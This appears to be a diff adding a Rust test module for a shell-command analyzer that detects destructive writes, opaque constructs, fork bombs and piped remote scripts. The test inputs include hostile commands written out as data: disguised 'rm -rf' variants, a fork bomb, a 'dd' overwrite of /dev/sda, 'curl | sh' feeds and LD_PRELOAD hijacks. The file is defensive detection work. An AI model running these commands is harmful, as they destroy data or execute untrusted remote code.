@@ -1,0 +1,112 @@
+use super::*;
+
+fn cmds(src: &str) -> Vec<String> {
+    analyze(src)
+        .parts
+        .iter()
+        .filter_map(|p| match p {
+            Part::Command(c) => Some(c.line_with_basename()),
+            _ => None,
+        })
+        .collect()
+}
+
+fn opaque(src: &str) -> bool {
+    analyze(src)
+        .parts
+        .iter()
+        .any(|p| matches!(p, Part::Opaque { .. }))
+}
+
+fn writes(src: &str) -> Vec<String> {
+    analyze(src)
+        .parts
+        .iter()
+        .filter_map(|p| match p {
+            Part::Write { path, .. } => Some(path.text.clone()),
+            _ => None,
+        })
+        .collect()
+}
+
+#[test]
+fn splits_lists_pipelines_and_substitutions() {
+    assert_eq!(
+        cmds("git status && ls -la | grep x; echo $(whoami) > out.txt"),
+        ["git status", "ls -la", "grep x", "whoami", "echo $(whoami)"]
+    );
+    assert_eq!(cmds("(cd a && make) || { echo no; }"), ["cd a", "make", "echo no"]);
+    assert_eq!(cmds("diff <(sort a) <(sort b)"), ["sort a", "sort b", "diff <(sort a) <(sort b)"]);
+    assert_eq!(writes("echo $(whoami) > out.txt"), ["out.txt"]);
+}
+
+#[test]
+fn quoting_and_paths_are_normalized() {
+    for src in ["rm -rf x", "/bin/rm -rf x", "\"rm\" -rf x", "r\\m -rf x", "'rm' \"-rf\" x", "$'\\x72m' -rf x"] {
+        assert_eq!(cmds(src), ["rm -rf x"], "{src}");
+    }
+}
+
+#[test]
+fn wrappers_are_stripped() {
+    for src in [
+        "sudo rm -rf x",
+        "env -i FOO=1 rm -rf x",
+        "timeout -s KILL 10 rm -rf x",
+        "nice -n 5 nohup rm -rf x",
+        "command rm -rf x",
+        "exec rm -rf x",
+        "sudo -u root -- rm -rf x",
+        "time rm -rf x",
+    ] {
+        assert_eq!(cmds(src), ["rm -rf x"], "{src}");
+    }
+    assert_eq!(cmds("ls | xargs rm -f"), ["ls", "rm -f"]);
+    assert_eq!(cmds("find . -name '*.o' -exec rm -f {} \\;"), ["find . -name *.o -exec rm -f {} ;", "rm -f {}"]);
+}
+
+#[test]
+fn nested_shells_are_parsed() {
+    assert_eq!(cmds("bash -c 'rm -rf x'"), ["bash -c rm -rf x", "rm -rf x"]);
+    assert_eq!(cmds("sh -lc \"sudo sh -c 'rm -rf x'\"").last().unwrap(), "rm -rf x");
+    assert!(opaque("bash -c \"$CMD\""));
+    assert!(opaque("eval 'ls'"));
+    assert_eq!(cmds("eval 'rm -rf x'").last().unwrap(), "rm -rf x");
+    assert_eq!(cmds("bash <<'EOF'\nrm -rf x\nEOF").last().unwrap(), "rm -rf x");
+}
+
+#[test]
+fn unresolvable_things_are_opaque() {
+    assert!(opaque("$CMD -rf x"));
+    assert!(opaque("$(echo rm) -rf x"));
+    assert!(opaque("python3 -c 'import os'"));
+    assert!(opaque("node -e 'x'"));
+    assert!(opaque("perl -ne 'print'"));
+    assert!(opaque("echo 'unterminated"));
+    assert!(opaque("PATH=/tmp/evil:$PATH ls"));
+    assert!(opaque("LD_PRELOAD=/tmp/x.so ls"));
+    assert!(opaque("echo hi > $OUT"));
+    assert!(!opaque("python3 -m pytest -q"));
+    assert!(!opaque("cargo test 2>&1 | tail -n 20"));
+}
+
+#[test]
+fn redirections_and_commands_that_write() {
+    assert_eq!(writes("echo x >> ~/.bashrc"), ["~/.bashrc"]);
+    assert_eq!(writes("cat a 2>/dev/null > b 2>&1"), ["b"]);
+    assert_eq!(writes("echo x | tee -a f1 f2"), ["f1", "f2"]);
+    assert_eq!(writes("cp a b c/"), ["c/"]);
+    assert_eq!(writes("sed -i 's/a/b/' f.txt"), ["f.txt"]);
+    assert_eq!(writes("dd if=/dev/zero of=/dev/sda"), ["/dev/sda"]);
+    assert_eq!(writes("cat <<EOF > out\nhi\nEOF"), ["out"]);
+}
+
+#[test]
+fn fork_bomb_and_feeds() {
+    assert!(analyze(":(){ :|:& };:").fork_bomb);
+    assert!(!analyze("f(){ echo hi; }; f").fork_bomb);
+    let a = analyze("curl -s https://x.sh | sh");
+    assert_eq!(a.feeds.len(), 1);
+    let a = analyze("bash <(curl -s https://x.sh)");
+    assert_eq!(a.feeds.len(), 1);
+}
